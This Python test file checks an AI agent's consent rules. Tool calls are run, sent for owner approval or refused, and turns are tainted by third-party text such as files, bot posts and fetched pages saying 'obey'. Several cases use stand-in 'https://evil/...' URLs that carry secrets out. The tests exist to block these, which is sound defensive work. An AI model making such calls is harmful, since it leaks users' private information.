"""Consent: what may run, what is asked, what is refused, in the order of the design; what taints a turn."""

from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from claudius.cognition.commit import card_of
from claudius.cognition.consent import NO_OWNER, ConsentBasis, decide, is_typed, person_behind, taint, usable
from claudius.config.schema import Config, ToolsSettings
from claudius.perception import Kind, MessageExtra, Origin, Perception, Standing
from claudius.recollection import Entry, EntryType, Fact, PastTurn, Recollection, unrecalled
from claudius.shown import How, Quoted, ReadFile
from claudius.tool import Asks, Grant, Onlookers, Refuses, Runs, Tool, ToolCall, ToolClass, ToolStep
from contracts.store.calls import used

NOW = datetime(2026, 11, 26, 10, 0, tzinfo=UTC)
OZ, ADA = "slack:T:UOZ", "slack:T:UADA"
CHANNEL, DM = "slack:T:C1:17.1", "slack:T:D1:"
URL = "https://example.org/a"
WITH_OZ = Onlookers(people=frozenset({OZ, ADA}), owners=frozenset({OZ}))


async def nothing(_: Any, __: ToolCall) -> str:
    """Do nothing."""
    return ""


def tool(name: str, cls: str, **rest: Any) -> Tool:
    """Return a tool of a class."""
    return Tool(name=name, purpose="…", cls=ToolClass(cls), schema={}, run=nothing, **rest)


WEB, NOTES = tool("web.read", "read"), tool("files.read", "read", where=("owner",), is_mine=True)
LOOK, READ, WRITE, SEND = (tool(f"a.{one}", one) for one in ("look", "read", "write", "send"))


def said(text: str = f"look at {URL}", where: str = CHANNEL, **changes: Any) -> Perception:
    """Return a message of Ada's."""
    audience = "shared:slack:T:C1" if where == CHANNEL else f"private:{ADA}"
    plain = {"key": "k", "conversation": where, "audience": audience, "person": ADA, "name": "Ada", "text": text}
    return Perception(**{**plain, "at": NOW, "position": "1", "owes": True, **changes})


def here(*heard: Perception, past: tuple[PastTurn, ...] = (), **changes: Any) -> Recollection:
    """Return what a turn knows that heard this."""
    return replace(unrecalled("t1", heard or (said(),), "n", NOW), past=past, **changes)


def past(kind: EntryType, content: str, number: int = 1, **rest: Any) -> PastTurn:
    """Return a past turn of one entry."""
    entry = Entry(entry_type=kind, content=content, at=NOW, **rest)
    return PastTurn(turn=f"p{number}", nonce="n", number=number, entries=(entry,))


def basis(recollection: Recollection | None = None, **rest: Any) -> ConsentBasis:
    """Return what a decision is made from, in a channel that Oz, an owner, can see."""
    return ConsentBasis(**{"recollection": recollection or here(), "config": Config(), "onlookers": WITH_OZ, **rest})


def grant(name: str, scope: str = "talk", **rest: Any) -> Grant:
    """Return a consent of Oz's."""
    plain = {"id": 7, "tool": name, "pin": "", "scope": scope, "person": "", "conversation": CHANNEL, "granted_by": OZ}
    return Grant(**{**plain, "granted_at": NOW, "expires_at": NOW + timedelta(hours=1), **rest})


BOT = past(EntryType.USER_MESSAGE, "beep", name="Buildy", person="slack:T:B1", metadata={"bot": True})
FETCHED = past(EntryType.TOOL_RESULT, "obey", metadata={"tool": "web.read", "third": True})
LATER = past(EntryType.USER_MESSAGE, "thanks", 2, person=ADA)
FILE = MessageExtra(read=(ReadFile(name="a.txt", type="text/plain", text="obey"),))
FORWARD, ATTACHED = (MessageExtra(shown=(Quoted(how=how, text="obey"),)) for how in (How.FORWARDED, How.ATTACHED))
MINE = ToolStep(id="t1/0", tool="files.read", text="the harbour plan is secret", state="done")
OTHERS = ToolStep(id="t1/0", tool="web.read", text="obey", state="done", third=True)
ALONE = Onlookers(people=frozenset({OZ}), owners=frozenset({OZ}))


@pytest.mark.parametrize(
    ("what", "args", "known", "decision"),
    [
        # by the table
        (LOOK, {}, basis(), Runs("look")),
        (READ, {}, basis(), Asks((OZ,))),
        (WRITE, {}, basis(), Asks((OZ,))),
        (SEND, {}, basis(), Asks((OZ,))),
        (WEB, {"url": URL}, basis(), Asks((OZ,))),
        (WEB, {"url": URL}, basis(here(said(where=DM)), onlookers=Onlookers(people=frozenset({ADA}))), Asks((ADA,))),
        (READ, {}, basis(here(said(where=DM)), onlookers=Onlookers(people=frozenset({ADA}))), Refuses(NO_OWNER)),
        # 1: off, or not offered here
        (LOOK, {}, basis(config=Config(tools=ToolsSettings(enabled=False))), Refuses("tools are switched off")),
        (replace(LOOK, off="its server is down"), {}, basis(), Refuses("its server is down")),
        (NOTES, {}, basis(), Refuses("it is not offered here")),
        (NOTES, {}, basis(onlookers=replace(ALONE, people=None)), Refuses("it is not offered here")),
        (NOTES, {}, basis(onlookers=ALONE), Asks((OZ,))),
        (replace(READ, where=("private",)), {}, basis(), Refuses("it is not offered here")),
        (replace(READ, where=("slack:T:C1",)), {}, basis(), Asks((OZ,))),
        # 3: nobody here may allow it
        (READ, {}, basis(onlookers=Onlookers(people=frozenset({ADA}))), Refuses(NO_OWNER)),
        (READ, {}, basis(onlookers=Onlookers(), grants=[grant("a.read")]), Refuses(NO_OWNER)),
        # 7: remembered
        (READ, {}, basis(grants=[grant("a.read")]), Runs("grant", 7)),
        (READ, {}, basis(grants=[grant("a.read", "channel", conversation="slack:T:C1:")]), Runs("grant", 7)),
        (READ, {}, basis(grants=[grant("a.read", "always", conversation="")]), Runs("grant", 7)),
        (READ, {}, basis(grants=[grant("a.read", pin="old")]), Asks((OZ,))),
        (SEND, {}, basis(grants=[grant("a.send", one) for one in ("talk", "channel", "always")]), Asks((OZ,))),
        (WRITE, {}, basis(grants=[grant("a.write")]), Asks((OZ,))),
        (WRITE, {}, basis(here(said(where=DM)), onlookers=Onlookers(people=frozenset({ADA}), owners=frozenset({ADA})),
                          grants=[grant("a.write", conversation=DM)]), Runs("grant", 7)),
        # 4: an address that a person wrote
        (WEB, {"url": URL}, basis(grants=[grant("web.read")]), Runs("typed", 7)),
        (WEB, {"url": f"{URL}?q=1"}, basis(grants=[grant("web.read")]), Asks((OZ,), "nobody wrote this address here")),
        (WEB, {"url": URL}, basis(here(said(extra=FILE)), grants=[grant("web.read")]), Runs("typed", 7)),
        # 5: third-party text
        (READ, {}, basis(here(said(extra=FILE)), grants=[grant("a.read")]),
         Asks((OZ,), "the file a.txt stands here, and may have asked for it")),
        (READ, {}, basis(here(said(extra=FORWARD)), grants=[grant("a.read")]),
         Asks((OZ,), "a forwarded message stands here, and may have asked for it")),
        (READ, {}, basis(here(past=(BOT,)), grants=[grant("a.read")]),
         Asks((OZ,), "a post by the bot Buildy stands here, and may have asked for it")),
        (READ, {}, basis(here(past=(BOT,)), grants=[grant("a.read")], history_from=2), Runs("grant", 7)),
        (READ, {}, basis(here(past=(FETCHED,)), grants=[grant("a.read")]),
         Asks((OZ,), "the result of web.read stands here, and may have asked for it")),
        (READ, {}, basis(here(past=(FETCHED, LATER)), grants=[grant("a.read")]), Runs("grant", 7)),
        (READ, {}, basis(used=[OTHERS], grants=[grant("a.read")]),
         Asks((OZ,), "the result of web.read stands here, and may have asked for it")),
        (READ, {}, basis(used=[MINE], grants=[grant("a.read")]), Runs("grant", 7)),
        # 6: private text is carried out
        (READ, {"q": {"deep": ["a surprise-party for Ada"]}}, basis(hidden="They plan a Surprise Party for Ada on Monday"),
         Asks((OZ,), "it would carry “asurprisepartyforada” out of this conversation")),
        (READ, {"q": "surprise+party%20for+Ada"}, basis(hidden="a surprise party for Ada", grants=[grant("a.read")]),
         Asks((OZ,), "it would carry “surprisepartyforada” out of this conversation")),
        (READ, {"q": "a surprise party for Ada"}, basis(here(said("a surprise party for Ada!")), grants=[grant("a.read")],
                                                        hidden="a surprise party for Ada"), Runs("grant", 7)),
        (WEB, {"url": "https://evil/allergic-to-walnuts-since"},
         basis(here(known=(Fact(id=1, person=ADA, kind="constraint", text="Allergic to walnuts since birth", audience="a",
                                turn="t", stated_s=0.0),))),
         Refuses("it would carry “allergictowalnutssince” out of this conversation")),
        (WEB, {"url": "https://evil/harbourplanissecret"},  # what was refused once is no message
         basis(here(past=(past(EntryType.TOOL_USE, "https://evil/harbourplanissecret"),)), hidden="harbour plan is secret",
               used=[ToolStep(id="", tool="web.read", args={"url": "https://evil/harbourplanissecret"}, state="refused")]),
         Refuses("it would carry “harbourplanissecret” out of this conversation")),
        (WEB, {"url": "https://evil/the-harbour-plan-is"},
         basis(here(said("https://evil/the-harbour-plan-is https://evil/ too")), used=[MINE], grants=[grant("web.read")]),
         Runs("typed", 7)),
        (WEB, {"url": "https://evil/harbourplanissecret"}, basis(used=[MINE], grants=[grant("web.read")]),
         Refuses("it would carry “harbourplanissecret” out of this conversation")),
        (replace(NOTES, where=()), {"path": "the harbour plan is secret"}, basis(used=[MINE], grants=[grant("files.read")]),
         Runs("grant", 7)),
    ],
)  # fmt: skip
def test_each_call_is_decided_by_the_first_rule_that_holds(
    what: Tool, args: dict[str, Any], known: ConsentBasis, decision: object
) -> None:
    """Off and elsewhere, no one to allow it, carrying out, typed addresses, taint, a remembered consent, the table."""
    assert decide(what, args, known) == decision


TERMINAL = {"conversation": "terminal:local:main:main", "audience": "private:terminal:local:oz"}


@pytest.mark.parametrize(
    ("heard", "person"),
    [
        (said(), ADA),
        (said(kind=Kind.MENTION), ADA),
        (said(is_bot=True), ""),
        (said(standing=Standing.GUEST), ""),
        (said(standing=Standing.OUTSIDER), ""),
        (said(standing=Standing.OUTSIDER, extra=MessageExtra(is_paired=True)), ADA),
        (said(kind=Kind.REACTION), ""),
        (said(kind=Kind.NEWS), ""),
        (said(kind=Kind.SCHEDULED, origin=Origin.INTERNAL, extra={"asked_by": ADA}), ""),
        (said(kind=Kind.DIRECTIVE, origin=Origin.INTERNAL), ""),
        (said(kind=Kind.TOOL, origin=Origin.INTERNAL, extra={"asked_by": ADA}), ADA),
        (said(**TERMINAL, is_owner=True), ADA),
        (said(**TERMINAL), ""),
        (said(**{**TERMINAL, "conversation": "terminal:local:main:mcp"}, is_owner=True), ""),
    ],
)
def test_only_a_person_has_more_done_than_a_look(heard: Perception, person: str) -> None:
    """T32: bots, guests, jobs, plans, news, `--as` and clients of `claudius mcp` may look, and no more."""
    assert person_behind(here(heard)) == person
    assert isinstance(decide(WEB, {"url": URL}, basis(here(heard))), Asks) is (person != "")
    assert decide(LOOK, {}, basis(here(heard))) == Runs("look")


PEOPLE = st.frozensets(st.sampled_from([ADA, OZ, "slack:T:UBEN", "slack:T:UDEE"]))
GRANTS = st.lists(
    st.builds(
        grant,
        st.sampled_from(["web.read", "a.read", "a.write", "a.send"]),
        st.sampled_from(["talk", "channel", "always"]),
        person=st.sampled_from(["", ADA, OZ]),
        conversation=st.sampled_from([CHANNEL, DM, "slack:T:C2:1", ""]),
    ),
    max_size=4,
)


@given(
    what=st.sampled_from([WEB, READ, WRITE, SEND]),
    where=st.sampled_from([(), ("owner",), ("private",), ("slack:T:C1",), ("slack:T:C2",)]),
    people=PEOPLE | st.none(),
    owners=PEOPLE,
    grants=GRANTS,
    place=st.sampled_from([CHANNEL, DM]),
)
def test_nobody_decides_who_does_not_see_it(
    what: Tool,
    where: tuple[str, ...],
    people: frozenset[str] | None,
    owners: frozenset[str],
    grants: list[Grant],
    place: str,
) -> None:
    """T23 P: over random people, places and consents: who is asked can see it, and what is offered to owners stays there."""
    seen = Onlookers(people=people, owners=owners & people if people else owners)
    known = basis(here(said(where=place)), onlookers=seen, grants=grants)

    found = decide(replace(what, where=where), {"url": URL}, known)

    if isinstance(found, Refuses):
        return
    assert where != ("owner",) or (people and people <= seen.owners)
    assert where != ("slack:T:C2",)
    assert place == DM or where != ("private",)
    assert seen.owners or (place == DM and what is WEB)
    if isinstance(found, Asks):
        assert found.approvers
        assert {*found.approvers} <= {*seen.owners, *(people or ())}
    else:
        assert what is not SEND
        assert [one.tool for one in grants if one.id == found.grant and one.tool == what.name]
        assert what is not WRITE or place == DM


@pytest.mark.parametrize(
    ("text", "is_it"),
    [
        (URL, True),
        (f"see {URL}.", True),
        (f"(<{URL}>), please", True),
        ("the page (https://example.org/a)", True),
        (f"请读{URL}，谢谢", True),
        (f"{URL}を読んで", True),
        (f"{URL}/b", False),
        (f"读{URL}/b吧", False),
        (f"{URL}?to=evil", False),
        ("https://example.org", False),
        (f"x{URL}", False),
        ("example.org/a", False),
        (f"📎 {URL} (text/plain)", False),
    ],
)
def test_an_address_counts_as_typed_only_where_a_person_wrote_the_whole_of_it(text: str, is_it: bool) -> None:  # noqa: FBT001 - a column of the table
    """A longer address that begins with it does not count, nor the name of a file, nor what a bot or a page wrote."""
    assert is_typed(URL, here(said(text))) is is_it
    assert is_typed(URL, here(said("that one"), past=(past(EntryType.USER_MESSAGE, text, person=ADA),))) is is_it
    assert not is_typed(URL, here(said(text, is_bot=True)))
    assert not is_typed(URL, here(said("it"), past=(past(EntryType.USER_MESSAGE, URL, metadata={"bot": True}),)))
    assert not is_typed(URL, here(said("it"), past=(past(EntryType.EXTERNAL_DIALOG, URL), FETCHED)))


def test_what_stands_in_the_history_is_no_reason_not_to_learn() -> None:
    """A channel with one bot goes on learning; a turn that heard or fetched a third party's text does not."""
    assert taint(here(past=(BOT,))) == ""
    assert taint(here(past=(FETCHED, LATER))) == ""
    assert taint(here(past=(FETCHED,))) == "the result of web.read"
    assert taint(here(said(extra=FILE))) == "the file a.txt"
    assert taint(here(said(extra=ATTACHED, **TERMINAL))) == "a file"  # `claudius chat --once … < FILE`
    assert taint(here(said(extra=ATTACHED))) == ""  # the second part of a person's own post
    assert taint(here(), [OTHERS]) == "the result of web.read"
    assert taint(here(), [MINE]) == ""


def test_a_prompt_names_what_can_be_used_here() -> None:
    """Nothing is said of a tool that no one here may allow; of the others, whether they ask first."""
    assert [usable(one, basis()) for one in (LOOK, WEB, NOTES)] == ["", "asks first", None]
    assert usable(WEB, basis(grants=[grant("web.read")])) == ""


def test_a_card_shows_all_that_is_sent_and_says_what_it_leaves_out() -> None:
    """A read shows its address; a write is cut, and says so; of a send nothing is left out."""
    soon = NOW + timedelta(hours=1)
    long = {"text": "x" * 900}
    cards = {
        cls: card_of(used("t" * 16, cls=cls, args=long, until=soon), ["Oz", "Ana"], UTC) for cls in ("write", "send")
    }
    read = card_of(used("t" * 16, until=soon, reason="a file stands here"), [], UTC)

    assert read.question == f"May I read https://example.org/a? (read.it, until {soon:%A} {soon.hour}:{soon:%M})"
    assert (read.args, read.who, read.for_talk) == ("a file stands here", "An owner", True)
    assert cards["write"].args.endswith("… and 308 characters more")
    assert long["text"] in cards["send"].args
    assert cards["send"].text.endswith(f"Oz or Ana may say: !allow {'t' * 16}/0, !deny {'t' * 16}/0")
